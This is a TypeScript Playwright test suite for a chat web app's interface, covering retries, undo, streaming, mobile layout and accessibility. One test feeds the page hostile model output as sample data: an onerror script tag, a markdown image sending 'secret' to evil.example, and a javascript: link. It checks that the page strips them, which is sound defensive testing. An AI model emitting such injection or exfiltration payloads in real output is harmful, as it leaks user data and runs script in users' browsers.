import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { after, suite, test } from 'node:test'
import { type Browser, chromium, type Page } from 'playwright-core'
import type { Person } from '../../../api/src/testing.ts'
import { refuses, says, startFakeModel, startTestChat, type TestChat, trailsOff } from '../testing.ts'

const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium'
const ARGS = [
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
]
const skip = existsSync(CHROMIUM) ? false : `there is no Chromium at ${CHROMIUM}; set CHROMIUM to one`

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
const browser = skip ? undefined : await chromium.launch({ executablePath: CHROMIUM, args: ARGS })
after(() => browser?.close())

const offline = await startTestChat()
const { api } = offline
// Each test with a model has its own, since they run side by side.
const [story, silence, trap] = [await startFakeModel(), await startFakeModel(), await startFakeModel()]
const [withStory, withSilence, withTrap] = [
  await startTestChat(story, api),
  await startTestChat(silence, api),
  await startTestChat(trap, api),
]

interface Visit {
  page: Page
  person: Person
  /** What the browser complained about. */
  complaints: string[]
}

async function visit(chat: TestChat, options: Parameters<Browser['newContext']>[0] = {}): Promise<Visit> {
  assert.ok(browser)
  const person = await chat.api.signUp()
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options })
  const cookies = person.cookie.split('; ').map((pair) => {
    const [name = '', ...value] = pair.split('=')
    return { name, value: value.join('='), url: chat.url }
  })
  await context.addCookies(cookies)
  const page = await context.newPage()
  const complaints: string[] = []
  page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()))
  page.on('pageerror', (error) => complaints.push(error.message))
  await page.goto(chat.url)
  if (options.javaScriptEnabled !== false) await wake(page, complaints)
  return { page, person, complaints }
}

/** Awake, the button knows that the field is empty: before that, Enter is a new line of a plain form. */
async function wake(page: Page, complaints: string[]): Promise<void> {
  await page
    .getByRole('button', { name: 'Send', disabled: true })
    .waitFor()
    .catch((error: unknown) => {
      throw new Error(`The page did not wake, or its field was not empty: ${complaints.join('; ')}`, { cause: error })
    })
}

async function send(page: Page, text: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Message' }).fill(text)
  await page.keyboard.press('Enter')
}

async function violations(page: Page): Promise<string[]> {
  await page.evaluate(axe)
  return page.evaluate(async () => {
    const { axe } = globalThis as unknown as { axe: { run: () => Promise<{ violations: { id: string }[] }> } }
    return (await axe.run()).violations.map(({ id }) => id)
  })
}

// Side by side: one of them waits for eight seconds until the page gives a model up.
suite('the page', { concurrency: 3 }, () => {
  // That its patience is less than ten seconds is tested beside it: here a busy browser would be measured, too.
  test('a model that does not answer is told of, no text is lost, and Retry answers', { skip }, async () => {
    const { page, complaints } = await visit(withSilence)
    const keepsSilent = () => {}
    silence.reactions = [keepsSilent, refuses(401), says('There you ', '**are**.')]
    await send(page, 'a long thought that must not be lost')
    await page.getByRole('alert').getByText('has said nothing').waitFor()
    await page.getByRole('button', { name: 'Retry' }).click()
    await page.getByRole('alert').getByText('refused the key').waitFor()
    assert.deepEqual(await violations(page), [])
    await page.reload()
    await page.getByRole('article', { name: 'You' }).getByText('a long thought that must not be lost').waitFor()
    await page.getByRole('button', { name: 'Retry' }).click()
    await page.locator('strong', { hasText: 'are' }).waitFor()
    assert.equal(await page.getByRole('alert').count(), 0)
    assert.deepEqual(complaints, [])
  })

  test('a person asks, sees what was done, undoes it, and finds it all after a reload', { skip }, async () => {
    const { page, person, complaints } = await visit(offline)
    assert.deepEqual(await violations(page), [])
    await page.getByRole('button', { name: 'What is due this week?' }).click()
    await page.getByText('Nothing is due this week.').waitFor()
    await page.waitForURL(/\/c\//)
    await send(page, 'add buy milk tomorrow #errands')
    await page.getByRole('button', { name: 'Undo: Added buy milk' }).waitFor()
    await send(page, 'what is due next week or tomorrow?')
    await page.getByRole('log').getByRole('listitem').filter({ hasText: 'buy milk' }).waitFor()
    assert.deepEqual(await violations(page), [])
    await page.getByRole('button', { name: 'Undo: Added buy milk' }).click()
    await page.getByText('Undone').waitFor()
    assert.equal((await person.client.listTasks()).items.length, 0)
    await page.reload()
    await page.getByText('Undone').waitFor()
    await page.getByRole('link', { name: 'What is due this week?' }).waitFor()
    assert.deepEqual(complaints, [])
  })

  test('Esc stops an answer and keeps what was said; a reload in the middle reads on', { skip }, async () => {
    const { page, complaints } = await visit(withStory)
    story.reactions = [trailsOff('It was a dark ', 'and stormy ')]
    await send(page, 'tell me a story')
    await page.getByText('It was a dark and stormy').waitFor()
    await page.reload()
    await page.getByRole('button', { name: 'Stop' }).waitFor()
    await page.getByText('It was a dark and stormy').waitFor()
    await page.keyboard.press('Escape')
    await page.getByText('Stopped.').waitFor()
    await page.getByRole('button', { name: 'Send' }).waitFor()
    await story.aborted
    await page.reload()
    await page.getByText('It was a dark and stormy').waitFor()
    await page.getByText('Stopped.').waitFor()
    assert.deepEqual(complaints, [])
  })

  test('what a model writes can carry no script, no picture and no unsafe address into the page', {
    skip,
  }, async () => {
    const { page, complaints } = await visit(withTrap)
    const text =
      '<img src=x onerror="document.title=1"> ![secret](https://evil.example/?q=secret) [here](javascript:alert(1)) end'
    trap.reactions = [says(text)]
    await send(page, 'hello')
    await page.getByText('end', { exact: false }).last().waitFor()
    assert.equal(await page.getByRole('log').locator('img').count(), 0)
    assert.equal(await page.getByRole('log').locator('a[href^="javascript"]').count(), 0)
    assert.deepEqual(complaints, [])
  })

  test('an answer that arrives all at once still gives the conversation its address, and empties the draft', {
    skip,
  }, async () => {
    const { page, complaints } = await visit(offline)
    await page.route('**/messages/', async (route) => route.fulfill({ response: await route.fetch() }))
    await send(page, 'help')
    await page.waitForURL(/\/c\//)
    await page.getByRole('link', { name: 'Help' }).waitFor()
    await page.getByRole('link', { name: 'New conversation' }).first().click()
    await wake(page, complaints)
    assert.equal(await page.getByRole('textbox', { name: 'Message' }).inputValue(), '')
    assert.deepEqual(complaints, [])
  })

  test('on a phone the conversations are a sheet, from which one is renamed and deleted with Undo', {
    skip,
  }, async () => {
    const { page, person, complaints } = await visit(offline, {
      viewport: { width: 390, height: 844 },
      hasTouch: true,
      isMobile: true,
      colorScheme: 'dark',
    })
    await send(page, 'help')
    await page.waitForURL(/\/c\//)
    await page.getByRole('button', { name: 'Conversations' }).tap()
    await page.getByRole('button', { name: 'Rename Help' }).tap()
    await page.getByRole('textbox', { name: 'Title of the conversation' }).fill('First steps')
    await page.keyboard.press('Enter')
    await page.getByRole('button', { name: 'Delete First steps' }).tap()
    await page.getByText('This conversation is deleted.').waitFor()
    assert.equal((await person.client.listConversations()).items.length, 0)
    await page.getByRole('button', { name: 'Undo', exact: true }).tap()
    await page.getByRole('textbox', { name: 'Message' }).waitFor()
    assert.equal((await person.client.listConversations()).items[0]?.title, 'First steps')
    assert.deepEqual(await violations(page), [])
    assert.deepEqual(complaints, [])
  })

  test('with scripts off, a question is asked and answered', { skip }, async () => {
    const { page } = await visit(offline, { javaScriptEnabled: false })
    await page.getByRole('textbox', { name: 'Message' }).fill('add buy stamps')
    await page.getByRole('button', { name: 'Send' }).click()
    await page.getByText('buy stamps').last().waitFor()
    await page.getByRole('button', { name: 'Undo' }).waitFor({ state: 'hidden' })
  })
})
